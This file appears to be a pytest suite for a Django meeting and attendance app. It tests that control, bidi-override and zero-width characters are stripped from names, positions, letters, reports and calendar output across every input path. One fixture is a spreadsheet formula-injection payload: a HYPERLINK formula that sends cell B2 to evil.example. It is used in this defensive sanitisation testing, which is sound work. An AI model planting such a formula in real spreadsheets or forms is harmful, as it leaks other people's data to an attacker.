"""Names and other one-line fields never keep control or invisible characters, wherever they
enter: forms, the roster import, the paste box, public registration, a representative named
through an answer link, a walk-in at the venue."""

from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone

from attendance.services import register_walk_in
from core.text import OneLineField, one_line
from events import services as events_services
from events.models import Meeting, Registration
from members.models import Member
from members.newcomers import NewMember, create_members_for_invitation
from members.roster import read_roster
from tests.events.factories import InvitationFactory, MeetingFactory, SessionFactory
from tests.members.factories import AgencyFactory
from tests.members.rosters import HEADER_ID, SITI, xlsx_file

PLANTED = '\x01=HYPERLINK("http://evil.example/?"&B2,"Klik")'
KEPT = '=HYPERLINK("http://evil.example/?"&B2,"Klik")'


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        (PLANTED, KEPT),
        ("Siti\x00 Rahma\x7f", "Siti Rahma"),
        ("Siti\nRahma\r\n", "Siti Rahma"),
        ("  Budi\t\tSantoso  ", "Budi Santoso"),
        ("\u202eahmaR itiS", "ahmaR itiS"),
        ("Ni\u200b Luh\ufeff Putu", "Ni Luh Putu"),
        ("Dr. Muhammad Ja'far, M.Si.", "Dr. Muhammad Ja'far, M.Si."),
        ("Désirée Manurung", "Désirée Manurung"),
        ("\x1c\x1d", ""),
    ],
)
def test_a_one_line_value_keeps_only_what_can_be_seen(typed, kept):
    assert one_line(typed) == kept
    assert OneLineField(required=False).clean(typed) == kept


def test_a_one_line_form_field_of_only_invisible_characters_is_empty():
    with pytest.raises(ValidationError) as refused:
        OneLineField().clean("\x01\u200b\n")

    assert refused.value.code == "required"


@pytest.mark.django_db
def test_a_roster_row_is_cleaned_before_it_is_checked():
    # openpyxl will not write C0 controls into a workbook; DEL and invisible marks it will.
    planted = "\x7f\u200b" + KEPT
    roster = read_roster(
        file_name="peserta.xlsx",
        content=xlsx_file([HEADER_ID, [planted, *SITI[1:5], "\u202e+Pranata Humas", *SITI[6:]]]),
    )

    [row] = roster.rows
    assert row.full_name == KEPT
    assert row.position == "+Pranata Humas"


@pytest.mark.django_db
def test_a_person_from_the_paste_box_becomes_a_member_without_control_characters():
    agency = AgencyFactory.create()

    [member] = create_members_for_invitation(
        people=[
            NewMember(
                email="budi@bps.go.id",
                full_name="\x01Budi\nSantoso",
                agency_id=agency.pk,
                position="\u202eStatistisi",
            )
        ]
    )

    member.refresh_from_db()
    assert (member.full_name, member.position) == ("Budi Santoso", "Statistisi")


@pytest.mark.django_db
@pytest.mark.usefixtures("mailoutbox")
def test_a_registration_keeps_its_names_clean():
    meeting = MeetingFactory.create(
        sessions=1,
        registration_open=True,
        registration_scope=Meeting.RegistrationScope.EMAIL_DOMAINS,
        registration_domains="kemenag.go.id",
        answer_deadline=timezone.now() + timedelta(days=7),
    )

    events_services.start_registration(
        meeting=meeting,
        full_name=PLANTED,
        email="siti@kemenag.go.id",
        agency_name="Kementerian\x00 Agama",
        work_unit="Biro\tHumas",
        position="\x07Pranata Humas",
    )

    registration = Registration.objects.get()
    assert registration.full_name == KEPT
    assert (registration.agency_name, registration.work_unit, registration.position) == (
        "Kementerian Agama",
        "Biro Humas",
        "Pranata Humas",
    )


@pytest.mark.django_db
def test_a_walk_in_keeps_its_names_clean():
    now = timezone.now()
    session = SessionFactory.create(
        meeting=MeetingFactory.create(sessions=0),
        starts_at=now - timedelta(hours=1),
        ends_at=now + timedelta(hours=1),
    )

    walk_in = register_walk_in(
        session=session,
        full_name=PLANTED,
        agency_name="\x1bBPS",
        email="yusuf@bps.go.id",
        position="Statistisi\r\nAhli",
    )

    walk_in.refresh_from_db()
    assert (walk_in.full_name, walk_in.agency_name, walk_in.position) == (
        KEPT,
        "BPS",
        "Statistisi Ahli",
    )


@pytest.mark.django_db
def test_a_representative_named_through_an_answer_link_keeps_a_clean_name(client):
    meeting = MeetingFactory.create(sessions=1, answer_deadline=timezone.now() + timedelta(days=7))
    invitation = InvitationFactory.create(meeting=meeting)
    secret = events_services.issue_answer_link(invitation=invitation)

    client.post(
        reverse("events:answer", args=[secret]),
        {
            "answer": "represented",
            "representative_name": PLANTED,
            "representative_email": "wakil@kemenag.go.id",
            "representative_position": "\x01@Kepala Biro",
        },
    )

    member = Member.objects.get(email="wakil@kemenag.go.id")
    assert (member.full_name, member.position) == (KEPT, "@Kepala Biro")


@pytest.mark.django_db
def test_the_surat_undangan_keeps_no_control_characters_and_its_number_none_in_the_calendar(
    organizer_client, organizer
):
    from events.calendar import build_request
    from events.models import InvitationLetter
    from events.snapshot import MeetingSnapshot

    meeting = MeetingFactory.create(sessions=1)
    meeting.organizers.add(organizer)
    url = reverse("events:letter", args=[meeting.pk])
    form = organizer_client.get(url).context["form"]
    data = {name: form[name].value() or "" for name in form.fields}
    data.update(
        number="B-9\x01/BD.I/2021",
        letter_date="2021-11-12",
        addressed_to_list="",
        addressees="Kepala Biro Humas\x02\nKepala Pusat Data\x1b",
        signatory_name=PLANTED,
        signatory_position="Sekretaris\x05 Badan",
        place="Jakarta\x04 Pusat",
        contact_phone="\x070813 1145 2087",
    )

    saved = organizer_client.post(url, data)

    meeting.refresh_from_db()
    letter = InvitationLetter.objects.get(meeting=meeting)
    snapshot = MeetingSnapshot.of(meeting)
    invitation = InvitationFactory.create(meeting=meeting)
    calendar = build_request(
        meeting=meeting, session=snapshot.sessions[0], invitations=[invitation]
    )
    assert saved.status_code == 302
    assert meeting.letter_number == "B-9 /BD.I/2021"
    assert (letter.signatory_name, letter.signatory_position) == (KEPT, "Sekretaris Badan")
    assert (letter.place, letter.contact_phone) == (
        "Jakarta Pusat",
        "0813 1145 2087",
    )
    assert letter.addressees == "Kepala Biro Humas\nKepala Pusat Data"
    assert b"B-9 /BD.I/2021" in calendar.replace(b"\r\n ", b"")
    assert not any(byte < 0x20 and byte not in b"\r\n" for byte in calendar)


@pytest.mark.django_db
def test_the_records_signers_and_letterheads_keep_no_control_characters(organizer):
    from attendance.services import save_sheet_settings
    from attendance.services.sheets import SheetSettingsData
    from events.services import letters
    from members.services import LetterheadChange, update_letterhead
    from outputs.services import report as reports

    meeting = MeetingFactory.create(sessions=1)
    meeting.organizers.add(organizer)
    letters.save_letter(
        meeting=meeting,
        data=letters.LetterData(
            **{
                **{
                    name: getattr(letters.letter_for(meeting=meeting), name)
                    for name in letters.LetterData.__dataclass_fields__
                    if name != "number"
                },
                "number": "B-1/2021",
            }
        ),
        by=organizer,
    )
    pdf = b"%PDF-1.4\n%%EOF\n"
    letters.upload_signed_letter(
        meeting=meeting,
        pdf=pdf,
        number="\x01B-2/2021",
        letter_date=timezone.localdate(),
        by=organizer,
    )
    settings = save_sheet_settings(
        meeting=meeting,
        data=SheetSettingsData(
            signature_grace_minutes=60,
            certifier="ppk",
            certifier_name=PLANTED,
            certifier_nip="",
            place="\x1bJakarta",
        ),
        by=organizer,
    )
    report = reports.report_for(meeting=meeting, by=organizer)
    data = {name: getattr(report, name) for name in reports.ReportData.__dataclass_fields__}
    data.update(author_name="\x01Rina", author_position="Kepala\x7f Biro", background="A\x01\nB")
    report = reports.save_report(meeting=meeting, data=reports.ReportData(**data), by=organizer)
    agency = update_letterhead(
        agency=meeting.host_agency,
        change=LetterheadChange(
            name="\x01Kementerian Agama",
            unit="Biro\x02 Humas",
            address="Jl. Thamrin\x03 No. 6\nJakarta",
            logo=None,
            remove_logo=False,
        ),
    )

    meeting.refresh_from_db()
    assert meeting.letter_number == "B-2/2021"
    assert (settings.certifier_name, settings.place) == (KEPT, "Jakarta")
    assert (report.author_name, report.author_position) == ("Rina", "Kepala Biro")
    assert report.background == "A\nB"
    assert (agency.letterhead_name, agency.letterhead_unit) == ("Kementerian Agama", "Biro Humas")
    assert agency.address == "Jl. Thamrin No. 6\nJakarta"


@pytest.mark.django_db
def test_a_meetings_description_and_address_keep_no_control_characters_for_its_calendar(
    organizer_client,
):
    from events.calendar import build_request
    from events.snapshot import MeetingSnapshot
    from tests.support.meetings import TWO_DAYS, form_data

    data = form_data(
        AgencyFactory.create(),
        TWO_DAYS,
        description="Pedoman\x01 pelatihan\nKurikulum\x1b",
        address="Jl. M.H. Thamrin\x02 No. 6\nJakarta Pusat",
    )

    created = organizer_client.post(reverse("events:meeting_create"), data)

    meeting = Meeting.objects.get()
    snapshot = MeetingSnapshot.of(meeting)
    calendar = build_request(
        meeting=meeting,
        session=snapshot.sessions[0],
        invitations=[InvitationFactory.create(meeting=meeting)],
    )
    assert created.status_code == 302
    assert meeting.description == "Pedoman pelatihan\nKurikulum"
    assert meeting.address == "Jl. M.H. Thamrin No. 6\nJakarta Pusat"
    assert not any(byte < 0x20 and byte not in b"\r\n" for byte in calendar)
